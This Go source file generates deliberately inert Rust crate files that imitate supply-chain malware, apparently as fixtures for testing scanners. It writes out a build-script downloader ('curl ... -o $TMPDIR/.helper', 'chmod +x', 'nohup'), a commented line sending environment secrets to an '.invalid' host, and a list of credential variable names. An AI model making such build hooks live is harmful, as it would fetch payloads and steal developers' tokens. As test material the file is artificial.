package content

import (
	"encoding/base64"
	"fmt"
	"strings"
)

// The texts below look like parts of an attack to a person or a scanner who
// skims them, and are made so that they could do nothing even if somebody
// built them: they open no connection, start no process, read no variable and
// write no file. Hosts end in ".invalid", which no resolver may answer, and
// everything encoded decodes to Marker.

// notice opens every file of a payload.
const notice = "// " + Marker + "\n"

// payload adds the files of the chosen look-alike. It comes after the sources,
// so that it replaces an ordinary build.rs.
func (c *crate) payload() {
	switch c.spec.Payload {
	case EncodedBuildScript:
		c.add("build.rs", encodedBuildScript())
	case DownloaderBuildScript:
		c.add("build.rs", downloaderBuildScript())
	case SplitStrings:
		c.splitStrings()
	case EnvironmentReader:
		c.add("src/diagnostics.rs", environmentReader())
		c.mention("diagnostics")
	}
}

func encodedBuildScript() string {
	return notice + fmt.Sprintf(`//! Prepares the build.

fn main() {
    println!("cargo:rerun-if-changed=build.rs");
    let packed = "%s";
    let plain = unpack(packed);
    // Only its length is used.
    println!("cargo:rustc-env=PREPARED={}", plain.len());
}

fn unpack(text: &str) -> Vec<u8> {
    let mut out = Vec::new();
    let (mut bits, mut held) = (0u32, 0);
    for byte in text.bytes() {
        let six = match byte {
            b'A'..=b'Z' => byte - b'A',
            b'a'..=b'z' => byte - b'a' + 26,
            b'0'..=b'9' => byte - b'0' + 52,
            b'+' => 62,
            b'/' => 63,
            _ => break,
        };
        bits = bits << 6 | u32::from(six);
        held += 6;
        if held >= 8 {
            held -= 8;
            out.push((bits >> held) as u8);
        }
    }
    out
}
`, base64.StdEncoding.EncodeToString([]byte(Marker)))
}

func downloaderBuildScript() string {
	return notice + `//! Fetches the prebuilt helper for this platform.

/// Where the helper would come from; no such host can exist.
const STAGE: &str = "https://cdn-assets.invalid/stage/helper.bin";

/// Said to be done with it. These are words, not calls.
const STEPS: [&str; 3] = [
    "curl -fsSL $STAGE -o $TMPDIR/.helper",
    "chmod +x $TMPDIR/.helper",
    "nohup $TMPDIR/.helper &",
];

// std::process::Command::new("sh").arg("-c").arg(STEPS[0]).status()
// ^ a comment: this script starts nothing.

fn main() {
    println!("cargo:rerun-if-changed=build.rs");
    println!("cargo:rustc-env=HELPER_STEPS={}", STEPS.len() + STAGE.len());
}
`
}

// splitStrings spreads one encoded text over several modules.
func (c *crate) splitStrings() {
	encoded := base64.StdEncoding.EncodeToString([]byte(Marker))
	third := (len(encoded) + 2) / 3
	for i, name := range []string{"locale_a", "locale_b", "locale_c"} {
		piece := encoded[i*third : min((i+1)*third, len(encoded))]
		c.add("src/"+name+".rs", notice+fmt.Sprintf("//! Language data, part %d.\n\npub(crate) const DATA: &str = %q;\n", i+1, piece))
		c.mention(name)
	}
}

func environmentReader() string {
	return notice + `//! Collects facts for bug reports.

/// Names that a thief would look for. They are never looked up.
const NAMES: [&str; 5] = [
    "CARGO_REGISTRY_TOKEN",
    "GITHUB_TOKEN",
    "AWS_SECRET_ACCESS_KEY",
    "NPM_TOKEN",
    "SSH_AUTH_SOCK",
];

const SINK: &str = "https://collect.invalid/report";

// NAMES.iter().filter_map(|n| std::env::var(n).ok()).for_each(|v| post(SINK, v))
// ^ a comment: this module reads and sends nothing.

pub(crate) fn facts() -> usize {
    NAMES.len() + SINK.len()
}
`
}

// helperRoot is the library of a crate that only brings in another one.
func (c *crate) helperRoot() string {
	var b strings.Builder
	b.WriteString(notice + "//! " + oneLine(c.spec.Description) + "\n\n")
	for _, name := range c.dependencyNames() {
		b.WriteString("pub use " + name + " as inner;\n")
		break
	}
	b.WriteString("\n/// The version of this crate.\npub const VERSION: &str = env!(\"CARGO_PKG_VERSION\");\n")
	return b.String()
}

// mention makes a module part of the crate, at the end of its root.
func (c *crate) mention(name string) {
	for _, root := range []string{"src/lib.rs", "src/main.rs"} {
		if text, ok := c.files[root]; ok {
			c.add(root, string(text)+"\n#[allow(dead_code)]\nmod "+name+";\n")
			return
		}
	}
}
